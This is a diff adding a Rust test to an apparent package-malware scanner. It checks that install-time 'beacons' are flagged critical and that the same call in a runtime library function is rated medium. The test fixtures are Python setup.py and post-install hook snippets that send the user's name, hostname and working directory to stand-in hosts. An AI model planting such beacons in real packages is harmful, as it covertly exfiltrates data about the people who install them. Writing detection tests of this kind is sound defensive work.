@@ -174,3 +174,37 @@ fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process()
         assert_eq!(report.risk_level, RiskLevel::Critical);
     }
 }
+
+/// Install-time beacons (issue 19): who and where a package is installed,
+/// sent home while it installs. Written for this test, not taken from a sample.
+#[test]
+fn an_install_time_beacon_is_critical_and_the_same_call_at_run_time_is_not() {
+    let beacon = "import getpass, socket, os, json\n\
+                  from urllib import request\n\
+                  from setuptools import setup\n\
+                  def ping():\n    info = {'u': getpass.getuser(), 'h': socket.gethostname(), 'd': os.getcwd()}\n    \
+                  request.urlopen(request.Request('https://collector.example.invalid/i', data=json.dumps(info).encode()))\n\
+                  ping()\n\
+                  setup(name='thing', version='1.0')\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: beacon.as_bytes() }]);
+    let f =
+        report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    assert_eq!((f.severity, report.risk_level), (Severity::Critical, RiskLevel::Critical));
+
+    // An environment variable naming the user, sent by requests: the same.
+    let env = "import os, requests\nrequests.post('http://203.0.113.9/b', json={'who': os.environ['USERNAME']})\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/setup.py", bytes: env.as_bytes() }]);
+    assert!(report.findings.iter().any(|f| f.rule == "install-beacon"), "{:#?}", report.findings);
+
+    // From an rpyx install hook: a beacon too.
+    let hooked = ManifestFacts { hooks: vec!["hooks/post_install.py".into()], ..ManifestFacts::default() };
+    let hook = "import platform, requests\nrequests.post('https://collector.example.invalid', data=platform.node())\n";
+    let report = scan(&hooked, &[Entry { path: "hooks/post_install.py", bytes: hook.as_bytes() }]);
+    assert!(report.findings.iter().any(|f| f.rule == "install-beacon" && f.severity == Severity::Critical));
+
+    // The same call in a library function a user calls: reported, not a threat.
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/telemetry.py", bytes: hook.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "host-identity-sent").expect("reported");
+    assert_eq!(f.severity, Severity::Medium);
+    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
+}
